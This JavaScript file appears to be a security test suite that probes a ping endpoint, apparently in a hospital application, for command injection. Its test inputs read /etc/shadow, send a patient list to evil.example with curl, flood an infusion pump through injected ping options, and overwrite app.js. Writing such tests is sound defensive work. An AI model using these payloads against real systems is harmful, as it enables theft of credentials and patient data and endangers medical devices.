const send = (host) => request(app, 'GET', '/ping?host=' + encodeURIComponent(host));
const started = (name) => processes.filter(({ file }) => file.split('/').pop() === name);

// Tries several inputs and says what the first successful one brought.
async function reads(...inputs) {
  for (const input of inputs) {
    const res = await send(input);
    if (res.body.includes('root:$6$')) return breached(true, `the password hashes of the server, with ${JSON.stringify(input)}`);
  }
  return breached(false);
}

attack('a semicolon ends the first command and starts a second', { input: '10.0.3.14; cat /etc/shadow' }, () =>
  reads('10.0.3.14; cat /etc/shadow', '10.0.3.14 && cat /etc/shadow', '10.0.3.14"; cat /etc/shadow; "', "10.0.3.14'; cat /etc/shadow; '"));

attack('a pipe, and no blank at all', { input: '10.0.3.14|cat</etc/shadow' }, () => reads('10.0.3.14|cat</etc/shadow', '10.0.3.14"|cat</etc/shadow;"', "10.0.3.14'|cat</etc/shadow;'"));

attack('a line break is as good as a semicolon', { input: '10.0.3.14\\ncat /etc/shadow' }, () => reads('10.0.3.14\ncat /etc/shadow', '10.0.3.14"\ncat /etc/shadow\n"', "10.0.3.14'\ncat /etc/shadow\n'"));

attack('a command inside the name of the device, and its catch sent to the attacker', { input: '$(curl -d @/home/app/patients.csv https://evil.example)' }, async () => {
  for (const input of ['$(curl -d @/home/app/patients.csv https://evil.example)', '`curl -d @/home/app/patients.csv https://evil.example`']) {
    await send(input);
    const call = outbox.find(({ url }) => url.includes('evil.example'));
    if (call) return breached(true, `the list of patients: ${call.body.split('\n').slice(1).join(' ')}`);
  }
  return breached(false);
});

attack('no second command: an option that the program never meant to give', { input: '-f -s 65507 infusion-pump-7.ward.example' }, async () => {
  const res = await send('-f -s 65507 infusion-pump-7.ward.example');
  const flood = started('ping').find(({ args }) => args.includes('-f') || args.includes('65507'));
  return breached(flood && res.body.includes('infusion-pump-7'), `an infusion pump flooded with packets: ping ${flood && flood.args.join(' ')}`);
});

attack('a file of the program is overwritten', { input: '10.0.3.14 > app.js' }, async () => {
  const before = files.read('app.js');
  for (const input of ['10.0.3.14 > app.js', '10.0.3.14" > app.js; "', "10.0.3.14' > app.js; '"]) {
    await send(input);
    if (files.read('app.js') !== before) return breached(true, 'the program itself, replaced by what ping printed');
  }
  return breached(false);
});
